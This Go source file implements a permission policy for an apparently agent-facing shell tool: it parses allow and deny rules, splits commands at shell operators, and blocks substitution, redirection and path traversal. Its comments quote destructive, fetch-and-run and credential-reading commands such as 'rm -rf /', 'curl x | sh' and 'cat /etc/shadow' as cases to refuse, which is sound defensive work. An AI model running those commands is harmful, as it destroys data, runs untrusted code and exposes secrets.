package policy

import (
	"errors"
	"fmt"
	"strings"
)

// maxArgBytes bounds the argument Decide looks at: a longer command is
// denied outright (see Decide), so matching stays cheap on any input.
const maxArgBytes = 64 << 10

// rule is one parsed entry such as "exec_shell" or "exec_shell(git status*)".
type rule struct {
	text   string // as written (trimmed), for explanations
	tool   string // tool-name glob
	arg    string // normalized argument glob; "" for a bare rule
	hasArg bool
	// form is arg in the form allow patterns match in (see allowForm);
	// formErr says why it has none, and then the rule allows nothing
	// by its pattern.
	form    string
	formErr error
}

// errRule is wrapped by every rule syntax error.
var errRule = errors.New("invalid rule")

// parseRule reads a rule: a tool-name glob, optionally followed by an
// argument glob in parentheses.
func parseRule(s string) (rule, error) {
	s = strings.TrimSpace(s)
	if s == "" {
		return rule{}, fmt.Errorf("%w: empty rule", errRule)
	}
	r := rule{text: s, tool: s}
	if i := strings.IndexByte(s, '('); i >= 0 {
		if !strings.HasSuffix(s, ")") {
			return rule{}, fmt.Errorf("%w %q: missing closing \")\"", errRule, s)
		}
		r.tool = strings.TrimSpace(s[:i])
		r.arg = spaceOps(normalize(s[i+1 : len(s)-1]))
		r.hasArg = true
		if r.arg == "" {
			return rule{}, fmt.Errorf("%w %q: empty argument pattern (write %q to match every call)", errRule, s, r.tool)
		}
		if c, bad := controlChar(r.arg); bad {
			return rule{}, fmt.Errorf("%w %q: control character %q in the argument pattern", errRule, s, c)
		}
		r.form, r.formErr = allowForm(r.arg, true)
	}
	if err := checkToolGlob(r.tool); err != nil {
		return rule{}, fmt.Errorf("%w %q: %w", errRule, s, err)
	}
	return r, nil
}

// checkToolGlob accepts names made of letters, digits and _ - . : / plus
// the wildcards * and ?.
func checkToolGlob(g string) error {
	if g == "" {
		return errors.New("no tool name before \"(\"")
	}
	for _, c := range g {
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
		case strings.ContainsRune("_-.:/*?", c):
		default:
			return fmt.Errorf("character %q is not allowed in a tool name (letters, digits, _ - . : / and the wildcards * ?)", c)
		}
	}
	return nil
}

// matchTool reports whether the rule names the tool.
func (r rule) matchTool(tool string) bool { return glob(r.tool, tool) }

// glob matches s against a pattern where * matches any run of characters
// (including / and spaces) and ? exactly one; everything else is literal.
func glob(pattern, s string) bool {
	_, ok := globAt(pattern, s, false)
	return ok
}

// normalize trims and collapses runs of blanks (space, tab) to one space.
// Other characters, also non-ASCII spaces, are kept: the shell does not
// split words on them either.
func normalize(s string) string {
	return strings.Join(strings.FieldsFunc(s, func(c rune) bool { return c == ' ' || c == '\t' }), " ")
}

// spaceOps puts one blank around each run of the control operator
// characters ; & |, so "a|b" and "a | b" compare equal.
func spaceOps(s string) string {
	var b strings.Builder
	inOp := false
	for _, c := range s {
		op := c == ';' || c == '&' || c == '|'
		if op != inOp {
			b.WriteByte(' ')
			inOp = op
		}
		b.WriteRune(c)
	}
	return normalize(b.String())
}

// controlChar finds a control character other than tab, newline and
// carriage return.
func controlChar(s string) (rune, bool) {
	for _, c := range s {
		if (c < 0x20 && c != '\t' && c != '\n' && c != '\r') || c == 0x7f {
			return c, true
		}
	}
	return 0, false
}

// command is a call's argument taken apart for matching.
type command struct {
	present bool   // the call has an argument at all
	line    string // the whole argument, normalized
	// segments are the simple commands between shell control operators,
	// and forms their allow forms (see allowForm); nil when the argument
	// is unsafe (see unsafe).
	segments, forms []string
	unsafe          string   // why no argument pattern can allow this call, or ""
	touch           []string // every text a deny or requireApproval pattern is tried on
}

// parseCommand analyses a call's argument.
//
// Allowing is strict: an allow pattern must match every segment between
// control operators (; & | && || |& newline), so "git status*" does not
// allow "git status; rm -rf /". An operator inside quotes still splits,
// which can only make a call less allowed. Each segment is matched in its
// allow form (allowForm): quotes removed, paths cleaned of "." and "//",
// and ".." kept apart so that no wildcard matches it: "cat docs/*" allows
// "cat ./docs/a.md" but not "cat docs/../.env", "cat docs/'..'/.env" or
// "cat docs/.?/.env". An argument with command substitution ($( or a
// backtick), a redirection (< or >), parameter expansion ($ outside single
// quotes), brace expansion or an unterminated quote is never allowed by
// an argument pattern: what it runs, reads or writes is not visible in the
// text of its segments ("git $(curl x | sh)", "git status > ~/.bashrc",
// "cat docs/${x:-..}/.env"), so only a rule without parentheses, one that
// allows every call of the tool, allows it. The same holds for control
// characters other than blanks and newlines.
//
// Refusing is broad: deny and requireApproval patterns are tried on the
// whole line, on each segment, on the pieces between any shell
// punctuation (substitutions, subshells, groups, redirections), each also
// with quotes and backslashes removed and with its paths cleaned
// (path.Clean, ".." included), and each from the start of any of its words
// or path segments: so "rm *" also refuses "sudo rm -rf /",
// "A=1 B=2 rm -rf /", "if x; then rm -rf /; fi", "echo $(rm -rf /)",
// "/bin/rm -rf /" and "r'm' -rf /", and "cat /etc/shadow" refuses
// "cat /etc/../etc//shadow".
// This is defence in depth, not a sandbox: a shell can run "rm" in ways no
// pattern foresees (bash -c, eval, xargs, aliases, scripts). The boundary
// is the allow list; deny patterns on arguments catch mistakes, not
// attackers. Decide also refuses every command whose command word is not
// a literal (checkCommandWords), the one way around deny patterns a line
// shows plainly.
func parseCommand(arg string) command {
	if arg == "" {
		return command{}
	}
	c := command{present: true, line: spaceOps(normalize(strings.NewReplacer("\n", " ; ", "\r", " ; ").Replace(arg)))}
	switch {
	case strings.Contains(arg, "$(") || strings.Contains(arg, "`"):
		c.unsafe = "command substitution"
	case strings.ContainsAny(arg, "<>"):
		c.unsafe = "a redirection"
	default:
		if _, bad := controlChar(arg); bad {
			c.unsafe = "a control character"
		}
	}
	segs := split(arg, ";&|\n\r")
	if c.unsafe == "" && len(segs) == 0 {
		c.unsafe = "no command"
	}
	if c.unsafe == "" {
		forms := make([]string, len(segs))
		for i, seg := range segs {
			f, err := allowForm(seg, false)
			if err != nil {
				c.unsafe = err.Error()
				break
			}
			forms[i] = f
		}
		if c.unsafe == "" {
			c.segments, c.forms = segs, forms
		}
	}
	seen := map[string]bool{}
	add := func(s string) {
		if s != "" && !seen[s] {
			seen[s] = true
			c.touch = append(c.touch, s)
		}
	}
	add(c.line)
	for _, s := range segs {
		add(s)
	}
	dequote := strings.NewReplacer("'", "", `"`, "", `\`, "")
	// A backslash-newline joins two lines into one word: "r\<newline>m".
	joined := strings.ReplaceAll(arg, "\\\n", "")
	for _, piece := range split(joined, ";&|\n\r`(){}<>") {
		add(piece)
		plain := normalize(dequote.Replace(piece))
		add(plain)
		add(cleanWords(plain))
	}
	return c
}

// split cuts s at any of the separator characters and returns the
// normalized, non-empty pieces.
func split(s, seps string) []string {
	var out []string
	for _, p := range strings.FieldsFunc(s, func(c rune) bool { return strings.ContainsRune(seps, c) }) {
		if p = normalize(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}

// touches reports whether a deny or requireApproval rule applies to the
// call: a bare rule always, an argument pattern if it matches any text the
// command could hide a command in (see parseCommand).
func (r rule) touches(c command) (bool, string) {
	if !r.hasArg {
		return true, ""
	}
	if !c.present {
		return false, ""
	}
	for _, t := range c.touch {
		if at, ok := globFrom(r.arg, t); ok {
			return true, t[at:]
		}
	}
	return false, ""
}

// covers reports whether an allow rule allows one unit of a call: a bare
// rule always; an argument pattern only a safe segment it matches.
func (r rule) covers(u unit) bool {
	if !r.hasArg {
		return true
	}
	return u.safe && r.formErr == nil && globDotdot(r.form, u.form)
}

// unit is what one allow decision is made on: a segment of a safe command,
// the whole of an unsafe one, or a call without an argument.
type unit struct {
	text string // as written (normalized), for reasons
	form string // its allow form, for a safe unit
	safe bool
}

// units lists what must each be allowed for the call to be allowed.
func (c command) units() []unit {
	if !c.present {
		return []unit{{}}
	}
	if c.segments == nil {
		return []unit{{text: c.line}}
	}
	us := make([]unit, len(c.segments))
	for i, s := range c.segments {
		us[i] = unit{text: s, form: c.forms[i], safe: true}
	}
	return us
}
